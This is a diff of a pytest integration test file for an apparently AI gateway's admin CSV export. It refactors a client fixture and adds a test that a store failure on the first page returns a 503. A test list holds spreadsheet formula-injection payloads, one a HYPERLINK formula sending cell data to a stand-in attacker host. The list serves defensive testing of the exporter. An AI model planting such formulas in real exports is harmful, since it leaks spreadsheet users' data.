@@ -9,48 +9,27 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
 from litestar.testing import AsyncTestClient
-from msgspec.structs import replace
 
 from gateway.admin._csv import csv_export, neutral
-from gateway.app import create_app
-from gateway.config import (
-    AdminToken,
-    DatabaseSettings,
-    GovernanceStoreSettings,
-    KeyStoreSettings,
-    load_settings,
-)
 from gateway.governance import LogFilter
+from tests.integration._admin import WRITE
 
 pytestmark = pytest.mark.integration
 
-WRITE = "w" * 8 + "-admin-write-token"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
 
 
-@pytest.fixture(params=["local", "shared"])
-async def client(request: pytest.FixtureRequest, tmp_path: Path,
-                 monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[AsyncTestClient[Any]]:
-    """A fresh gateway with a write token (the built-in mock models)."""
-    monkeypatch.setenv("IPT_ADMIN_WRITE", WRITE)
-    base = load_settings(None)
-    server = replace(base.server, audit_path=str(tmp_path / "audit.jsonl"), admin_tokens=[
-        AdminToken(name="terraform", token_ref="env:IPT_ADMIN_WRITE", access="write")])
-    settings = replace(base, data_dir=str(tmp_path), demo=False, server=server)
-    if request.param == "shared":
-        monkeypatch.setenv("INFERPLANE_DATABASE_URL", request.getfixturevalue("pg_dsn"))
-        settings = replace(settings, key_store=KeyStoreSettings(type="postgres"),
-                           governance_store=GovernanceStoreSettings(type="postgres"),
-                           database=DatabaseSettings(pool_min_size=1, pool_max_size=2))
-    async with AsyncTestClient(app=create_app(settings)) as c:
-        yield c
+@pytest.fixture
+def client(admin: tuple[AsyncTestClient[Any], Path]) -> AsyncTestClient[Any]:
+    """The ``admin`` fixture's client: a fresh gateway (both profiles, built-in mock
+    models) with a write token."""
+    return admin[0]
 
 
 async def test_a_formula_in_a_text_cell_is_exported_as_text(
@@ -119,3 +98,18 @@ async def test_the_export_reads_one_page_at_a_time_up_to_its_cap() -> None:
                                           cells=cells, page_rows=3, max_rows=7)]
     assert "".join(capped).split() == ["id"] + [r.id for r in rows[:7]]
     assert [n for _, n in asked] == [3, 3, 1]
+
+
+async def test_a_store_failing_at_the_first_page_is_an_error_status(
+        client: AsyncTestClient[Any], monkeypatch: pytest.MonkeyPatch) -> None:
+    """The first page is read before the answer starts: a store that fails there is the
+    admin API's 503 in OpenAI's shape, not a 200 cut short."""
+    async def broken(*args: Any, **kwargs: Any) -> Any:
+        raise OSError("connection refused")
+
+    governance = client.app.state.gateway.governance
+    monkeypatch.setattr(governance, "request_log", broken)
+    r = await client.get("/admin/v1/requests.csv",
+                         headers={"Authorization": f"Bearer {WRITE}"})
+    assert r.status_code == 503, (r.status_code, r.text[:300])
+    assert r.json()["error"]["message"]
